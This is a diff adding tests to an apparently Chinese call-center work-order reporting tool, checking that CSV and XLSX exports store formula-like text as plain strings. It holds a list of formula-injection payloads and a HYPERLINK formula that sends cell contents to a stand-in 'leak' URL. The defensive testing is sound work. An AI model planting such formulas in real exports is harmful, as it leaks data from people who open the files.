@@ -11,7 +11,7 @@ from callcenter.workorders import cli
 from callcenter.workorders.categories import load_categories
 from callcenter.workorders.models import FollowUp, WorkOrder, WorkOrderEvent
 from callcenter.workorders.render import render
-from callcenter.workorders.reports import ReportError, build, last_week, period
+from callcenter.workorders.reports import Report, ReportError, build, last_week, period
 
 TZ = "Asia/Shanghai"
 MON = datetime(2026, 11, 23, 0, 0, tzinfo=UTC) - timedelta(hours=8)   # Monday 00:00 local, week 2026-W48
@@ -161,3 +161,57 @@ async def test_the_days_reports_are_written_once(settings, sessionmaker, week) -
     weekly = next(p for p in written if p.name == "weekly-2026-W48.csv").read_text(encoding="utf-8-sig")
     assert "orders_taken,4" in weekly
     assert await write_due_reports(settings, orders, date(2026, 11, 30)) == []
+
+
+# ---------------------------------------------------------------- formulas stay text
+
+PAYLOADS = ["=1+1", "+cmd", "-2", "@SUM(A1)", "\t=x", "\r=x", "＝1+1"]
+
+
+def formula_report(text: str) -> Report:
+    """A report whose every free-text cell carries `text` and whose counts include -2."""
+    return Report(period=period("weekly", "2026-W48", TZ), hotline=text, generated_at=at(6, 12),
+                  indicators={"calls": -2, "abandon_rate_pct": -1.5},
+                  categories=[{"category": text, "subcategory": text, "name": text, "taken": -2, "finished": 0}],
+                  units=[{"unit": text, "taken": 1, "finished": -2, "unfinished": 3, "unacknowledged": 0,
+                          "escalated": 0}],
+                  days=[{"day": text, "calls": -2, "answered": 0, "orders": 0}],
+                  notable=[{"order_id": 4, "category": text, "unit": text, "state": text, "escalation_level": 1,
+                            "returns": 0, "repeat_of": None, "description": text}])
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_text_a_spreadsheet_would_run_is_written_as_text_in_csv(text: str) -> None:
+    rows = list(csv.reader(io.StringIO(render(formula_report(text), "csv").decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert cells.count("'" + text) == 9           # every free-text cell of the blocks
+    assert rows[0] == ["# " + text + " 周报"]      # starts with "#": text already
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r", "＝")) for cell in cells)
+    assert ["calls", "-2"] in rows and ["abandon_rate_pct", "-1.5"] in rows   # numbers stay numbers
+    assert ["'" + text, "'" + text, "'" + text, "-2", "0"] in rows
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_text_a_spreadsheet_would_run_is_a_plain_string_cell_in_xlsx(text: str) -> None:
+    book = load_workbook(io.BytesIO(render(formula_report(text), "xlsx")))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    kept = text.replace("\r", "\n")              # XML reads a bare CR as a line feed
+    carrying = [cell for cell in cells if cell.value == kept]
+    assert len(carrying) == 9 and all(cell.data_type == "s" and cell.quotePrefix for cell in carrying)
+    assert book["indicators"]["A1"].value.startswith(kept) and book["indicators"]["A1"].data_type == "s"
+    numbers = {r[0]: r[2] for r in book["indicators"].iter_rows(values_only=True) if r and len(r) > 2}
+    assert numbers["calls"] == -2 and numbers["abandon_rate_pct"] == -1.5
+    assert book["categories"]["D2"].value == -2 and book["categories"]["D2"].data_type == "n"
+
+
+async def test_an_order_description_with_a_formula_reaches_the_reports_as_text(sessionmaker, week) -> None:
+    link = '=HYPERLINK("http://example.com/?leak="&A1,"点击查看")'
+    async with sessionmaker() as session, session.begin():
+        (await session.get(WorkOrder, 4)).description = link
+    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(), answer_within_s=15)
+    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
+    assert any(row and row[-1] == "'" + link for row in rows)
+    notable = load_workbook(io.BytesIO(render(report, "xlsx")))["notable"]
+    cell = next(c for row in notable.iter_rows() for c in row if c.value == link)
+    assert cell.data_type == "s" and cell.quotePrefix
